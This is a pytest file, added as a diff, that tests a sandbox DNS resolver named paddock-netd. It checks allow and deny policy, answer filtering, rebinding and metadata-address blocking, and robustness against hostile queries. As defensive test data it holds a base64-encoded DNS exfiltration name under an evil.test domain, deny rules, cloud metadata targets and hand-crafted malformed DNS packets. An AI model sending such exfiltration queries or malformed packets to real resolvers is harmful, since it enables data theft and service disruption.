@@ -1,0 +1,209 @@
+"""paddock-netd's resolver: only allowed names resolve (NXDOMAIN otherwise,
+nothing sent upstream), answers are filtered and pinned, every decision is
+audited, hostile queries change nothing. Runs netd in a lab of network
+namespaces (_netdlab.py)."""
+import os
+import socket
+import struct
+import subprocess
+
+import pytest
+
+from _netdlab import GW, KEY, WEB, Lab, netd_bin
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root for network namespaces")
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory):
+    if not os.path.exists(netd_bin()):
+        pytest.fail("paddock-netd not built: %s" % netd_bin())
+    lb = Lab(tmp_path_factory.mktemp("netd"))
+    try:
+        lb.start()
+        yield lb
+    finally:
+        lb.stop()
+
+
+@pytest.fixture
+def sb(lab):
+    """Each test adds the sandbox with its own policy and removes it."""
+    open(lab.audit, "w").close()
+    open(lab.qlog, "w").close()
+    yield lab
+    assert lab.call({"op": "remove", "id": KEY}) == {"ok": True}
+    subprocess.run(["ip", "netns", "exec", lab.rtr, "nft", "flush", "set", "inet", "paddock",
+                    "p4_" + KEY], check=True)
+    assert lab.netd_alive(), "paddock-netd died"
+
+
+POLICY = {"mode": "policy", "rules": ["allow:allowed.test", "allow:*.allowed.test:80-8080/tcp"]}
+
+
+def test_allowed_name_resolves_and_is_pinned(sb):
+    assert sb.add(POLICY) == {"ok": True}
+    status, ans = sb.dig("allowed.test")
+    assert status == "NOERROR" and ans == [("A", WEB["a"])]
+    assert "allowed.test" in sb.queries()
+    pins = subprocess.run(["ip", "netns", "exec", sb.rtr, "nft", "list", "set", "inet", "paddock",
+                           "p4_" + KEY], capture_output=True, text=True).stdout
+    assert WEB["a"] in pins
+    audit = sb.audit_lines()
+    assert any(a["kind"] == "dns" and a["decision"] == "allow" and a["name"] == "allowed.test"
+               and a["rule"] == "allow:allowed.test" for a in audit)
+    assert any(a["kind"] == "pin" and a["decision"] == "allow" and a["addr"] == WEB["a"]
+               and a["ttl"] == 300 for a in audit)
+
+
+def test_wildcard_and_cname_chain(sb):
+    assert sb.add(POLICY) == {"ok": True}
+    status, ans = sb.dig("cdn.allowed.test")
+    assert status == "NOERROR"
+    assert ("CNAME", "edge.cdn.test.") in ans and ("A", WEB["b"]) in ans
+    # the apex of a wildcard is not covered by it, but allowed.test is named
+    assert sb.dig("www.allowed.test")[0] == "NOERROR"
+    assert sb.dig("a.b.allowed.test")[0] == "NXDOMAIN"  # allowed, upstream says NXDOMAIN
+    assert "a.b.allowed.test" in sb.queries()
+
+
+def test_disallowed_names_nxdomain_and_never_forwarded(sb):
+    """DNS exfiltration: a name outside the policy never leaves netd."""
+    assert sb.add(POLICY) == {"ok": True}
+    secret = "c2VjcmV0LWRhdGE.exfil.evil.test"
+    for name in (secret, "other.test", "allowed.test.evil.test", "xallowed.test"):
+        status, ans = sb.dig(name)
+        assert status == "NXDOMAIN" and ans == [], name
+        status, _ = sb.dig(name, tcp=True)
+        assert status == "NXDOMAIN", name
+        status, _ = sb.dig(name, "TXT")
+        assert status == "NXDOMAIN", name
+    assert not [q for q in sb.queries() if "evil" in q or "other" in q or q == "xallowed.test"]
+    denies = [a for a in sb.audit_lines() if a["kind"] == "dns" and a["decision"] == "deny"]
+    assert any(a["name"] == secret.lower() and a["reason"] == "no rule allows the name"
+               for a in denies)
+
+
+def test_ip_literal_names(sb):
+    """IP-literal forms asked as names: decimal, octal, hex, mapped, trailing dot."""
+    assert sb.add({"mode": "open"}) == {"ok": True}
+    for name in ("3325256724", "0306.0063.0144.024", "0xc6.0x33.0x64.0x14", "198.51.100.20.",
+                 "198.51.100.20", "::ffff:198.51.100.20", "198.51.100.20.in.1"):
+        status, ans = sb.dig(name)
+        assert status == "NXDOMAIN" and ans == [], name
+    assert sb.queries() == []
+
+
+def test_dns_over_tcp(sb):
+    assert sb.add(POLICY) == {"ok": True}
+    status, ans = sb.dig("api.allowed.test", tcp=True)
+    assert status == "NOERROR" and ans == [("A", WEB["a"])]
+    status, ans = sb.dig("api.allowed.test", "AAAA", tcp=True)
+    assert status == "NOERROR" and ans == [("AAAA", "2001:db8::10")]
+
+
+def test_rebinding_addresses_dropped(sb):
+    """Addresses the policy may not pin are removed from the answer."""
+    assert sb.add(POLICY) == {"ok": True}
+    status, ans = sb.dig("private.allowed.test")       # wildcard: 10.0.0.5 dropped
+    assert status == "NOERROR" and ans == [("A", WEB["a"])]
+    status, ans = sb.dig("meta.allowed.test")           # metadata never from DNS
+    assert status == "NOERROR" and ans == []
+    status, ans = sb.dig("loop.allowed.test")
+    assert ans == []
+    pins = [a for a in sb.audit_lines() if a["kind"] == "pin"]
+    assert {"addr": "10.0.0.5", "reason": "private"}.items() <= \
+        next(a for a in pins if a["addr"] == "10.0.0.5").items()
+    assert next(a for a in pins if a["addr"] == "169.254.169.254")["reason"] == "metadata"
+
+
+def test_metadata_names_denied_in_open_mode(sb):
+    assert sb.add({"mode": "open"}) == {"ok": True}
+    assert sb.dig("metadata.google.internal")[0] == "NXDOMAIN"
+    assert sb.dig("other.test")[0] == "NOERROR"
+    assert sb.queries() == ["other.test"]
+    assert any(a.get("reason") == "metadata name" for a in sb.audit_lines())
+
+
+def test_deny_rules_in_open_mode(sb):
+    assert sb.add({"mode": "open", "deny": ["evil.test", "*.evil.test"]}) == {"ok": True}
+    assert sb.dig("evil.test")[0] == "NXDOMAIN"
+    assert sb.dig("x.evil.test")[0] == "NXDOMAIN"
+    assert sb.dig("other.test")[0] == "NOERROR"
+    deny = [a for a in sb.audit_lines() if a["decision"] == "deny"]
+    assert deny[0]["rule"] == "deny:evil.test" and deny[1]["rule"] == "deny:*.evil.test"
+
+
+def test_unknown_source_gets_nothing(sb):
+    """A source that is not a registered sandbox gets no answer."""
+    assert sb.add(POLICY) == {"ok": True}
+    subprocess.run(["ip", "-n", sb.sbx, "addr", "add", "10.201.0.3/30", "dev", "eth0"], check=True)
+    try:
+        out = sb.sh("dig", "@" + GW, "-b", "10.201.0.3", "+time=1", "+tries=1", "allowed.test").stdout
+        assert "timed out" in out or "no servers" in out
+    finally:
+        subprocess.run(["ip", "-n", sb.sbx, "addr", "del", "10.201.0.3/30", "dev", "eth0"])
+
+
+def hostile_packets():
+    hdr = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    yield b""                                                      # empty
+    yield b"\x00" * 5                                              # short header
+    yield hdr                                                      # no question
+    yield hdr + b"\xc0\x0c\x00\x01\x00\x01"                        # pointer to itself
+    yield hdr + b"\x3f" + b"a" * 10                                # label past the end
+    yield hdr + (b"\x3f" + b"a" * 63) * 5 + b"\x00\x00\x01\x00\x01"  # name > 255
+    yield hdr + b"\x40abc\x00\x00\x01\x00\x01"                      # extended label type
+    yield struct.pack("!HHHHHH", 1, 0x0100, 2, 0, 0, 0) + b"\x00\x00\x01\x00\x01" * 2
+    yield struct.pack("!HHHHHH", 1, 0x8100, 1, 0, 0, 0) + b"\x00\x00\x01\x00\x01"  # a response
+    yield struct.pack("!HHHHHH", 1, 0x2900, 1, 0, 0, 0) + b"\x00\x00\x01\x00\x01"  # UPDATE
+    yield hdr + b"\x07allowed\x04test\x00\x00\x01"                  # truncated qtype/class
+    yield hdr + b"\x07all\x00wed\x04test\x00\x00\x01\x00\x01"       # NUL in a label
+    yield os.urandom(512)
+
+
+def test_hostile_queries(sb):
+    assert sb.add(POLICY) == {"ok": True}
+    code = ("import socket,sys,struct\n"
+            "pk=[bytes.fromhex(h) for h in sys.argv[1:]]\n"
+            "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(0.3)\n"
+            "got=[]\n"
+            "for p in pk:\n"
+            "  s.sendto(p,('%s',53))\n"
+            "  try: got.append(s.recv(4096)[3]&15)\n"
+            "  except OSError: got.append(None)\n"
+            "t=socket.create_connection(('%s',53),timeout=2)\n"
+            "t.sendall(struct.pack('!H',65535)+b'x'*100);t.settimeout(2)\n"
+            "try: print(got, t.recv(10))\n"
+            "except OSError as e: print(got, e)\n" % (GW, GW))
+    pk = [p.hex() for p in hostile_packets()]
+    r = sb.sh("python3", "-c", code, *pk)
+    assert r.returncode == 0, r.stderr
+    rcodes = eval(r.stdout.split("] ")[0] + "]")
+    assert rcodes[7] == 1 and rcodes[9] == 4       # FORMERR, NOTIMP
+    assert all(c in (None, 1, 3, 4) for c in rcodes)  # never an answer
+    assert sb.queries() == []
+    # still serving
+    assert sb.dig("allowed.test")[0] == "NOERROR"
+
+
+def test_bad_control_requests_change_nothing(sb):
+    assert sb.add(POLICY) == {"ok": True}
+    bad = [
+        {"op": "add", "id": KEY, "addrs": ["10.201.0.6"], "audit": sb.audit, "policy": POLICY},
+        {"op": "add", "id": "Bad!", "addrs": ["10.201.0.6"], "audit": sb.audit, "policy": POLICY},
+        {"op": "add", "id": "sb2", "addrs": ["10.201.0.2"], "audit": sb.audit, "policy": POLICY},
+        {"op": "add", "id": "sb2", "addrs": ["nope"], "audit": sb.audit, "policy": POLICY},
+        {"op": "add", "id": "sb2", "addrs": ["10.201.0.6"], "audit": "rel", "policy": POLICY},
+        {"op": "add", "id": "sb2", "addrs": ["10.201.0.6"], "audit": sb.audit,
+         "policy": {"mode": "policy", "rules": ["allow:0177.0.0.1"]}},
+        {"op": "update", "id": KEY, "policy": {"mode": "bogus"}},
+        {"op": "update", "id": "nosuch", "policy": POLICY},
+        {"op": "frobnicate"},
+    ]
+    for req in bad:
+        rep = sb.call(req)
+        assert rep["ok"] is False and rep["error"], req
+    assert sb.call({"op": "remove", "id": "sb2"}) == {"ok": True}
+    assert sb.dig("allowed.test")[0] == "NOERROR"       # the old policy still applies
+    assert sb.dig("other.test")[0] == "NXDOMAIN"
